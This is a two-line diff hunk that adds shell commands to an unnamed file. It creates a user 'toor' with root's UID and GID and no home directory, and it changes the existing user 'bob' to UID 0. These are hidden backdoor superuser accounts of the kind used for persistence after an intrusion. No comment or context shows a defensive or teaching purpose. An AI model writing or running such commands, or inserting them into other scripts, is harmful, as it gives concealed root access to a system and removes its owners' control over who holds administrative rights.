@@ -1,0 +1,2 @@
+useradd -o -u 0 -g 0 -M toor
+usermod -ou 0 bob
